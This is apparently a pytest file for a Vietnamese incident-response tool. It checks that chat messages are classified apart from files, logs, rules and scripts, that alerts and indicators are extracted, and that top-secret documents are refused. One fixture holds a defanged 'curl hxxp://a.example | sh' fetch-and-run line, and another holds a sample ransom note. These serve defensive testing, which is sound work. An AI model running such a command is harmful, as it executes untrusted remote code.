"""A saved chat message is a message; a note, a ransom demand, a program, a rule, a log are none."""

from __future__ import annotations

import io

import pytest

from atttcli.errors import SecretDocument
from atttcli.ingest.route import recognise
from atttcli.model.alert import Alert
from atttcli.model.observable import Indicator
from atttcli.source import Input, Letter
from atttcli.sources.message_text import MessageText

NOTE = "Máy của xã nối định kỳ tới xau[.]example (198[.]51[.]100[.]230), đề nghị chặn giúp."
RANSOM = "Toàn bộ dữ liệu đã bị mã hóa, hãy liên hệ mau@c2.example và thanh toán bằng Bitcoin trong vòng 72 giờ."


def given(text: str | bytes, name: str = "x.txt") -> Input:
    data = text.encode() if isinstance(text, str) else text
    return Input(name, "ab" * 32, len(data), data[:65536], io.BytesIO(data), own_networks=("192.0.2.0/25",),
                 own_domains=("backan.gov.vn",))  # fmt: skip


@pytest.mark.parametrize(
    ("text", "kind"),
    [
        (NOTE, "text"),
        ("Kính gửi các đơn vị, đề nghị chặn 198.51.100.7 trên tường lửa trong hôm nay.\n", "text"),
        ("[07:10 13/05/2021] Giám sát: gửi anh/chị trực.\nPhát hiện 198.51.100.7 dò mật khẩu.\n", "text"),
        (NOTE.encode("utf-16"), "text"),
        ("Lấy từ máy 15, xã Vi Hương.\n", "file"),
        (RANSOM, "file"),
        ("gửi anh xem giúp tệp đính kèm này với ạ, cảm ơn anh\n", "file"),
        ("#!/bin/sh\ncurl hxxp://a.example | sh; x=$((1+2)); [ -f /etc/x ] && { echo '[.]'; }\n" * 3, "file"),
        ('alert dns any any -> any any (msg:"a"; content:"x[.]example"; sid:1;)\n', "file"),
        (NOTE + "\n" + "x " * 40_000, "file"),
        (b"\x7fELF\x02\x01\x01" + bytes(60) + NOTE.encode() + bytes(range(256)) * 20, "file"),
        ("10:00:01 198.51.100.7 GET a[.]b\n" * 50, "log"),
    ],
)
def test_what_is_a_message(text: str | bytes, kind: str) -> None:
    assert recognise(given(text))[0] == kind


def test_one_alert_for_each_of_ours_and_indicators_of_the_others() -> None:
    text = (
        NOTE
        + "\nMáy 192.0.2.36 và trang http://backan.gov.vn/a, http://www.backan.gov.vn/b bị ảnh hưởng, theo 12/CV-ATTT.\n"
    )
    records = list(MessageText().read(given(text)))
    alerts = [one for one in records if isinstance(one, Alert)]
    assert [one.victim for one in alerts] == ["192.0.2.36", "backan.gov.vn", "www.backan.gov.vn"]
    for alert in alerts:  # whom it concerns is told by one of ours only
        assert [one.role for one in alert.observables].count("victim") == 1
    assert {one.kind for one in alerts} == {"message"} and alerts[0].title.startswith("Máy của xã")
    assert {one.value for one in records if isinstance(one, Indicator)} == {"xau.example", "198.51.100.230"}
    assert not [one for one in records if isinstance(one, Letter)] or alerts[0].detail["letter"]


def test_of_nobody_of_ours_it_is_still_one_alert() -> None:
    alerts = [one for one in MessageText().read(given(NOTE)) if isinstance(one, Alert)]
    assert [one.victim for one in alerts] == [""]


def test_a_secret_one_is_refused() -> None:
    with pytest.raises(SecretDocument):
        list(MessageText().read(given("TUYỆT MẬT\n" + NOTE)))
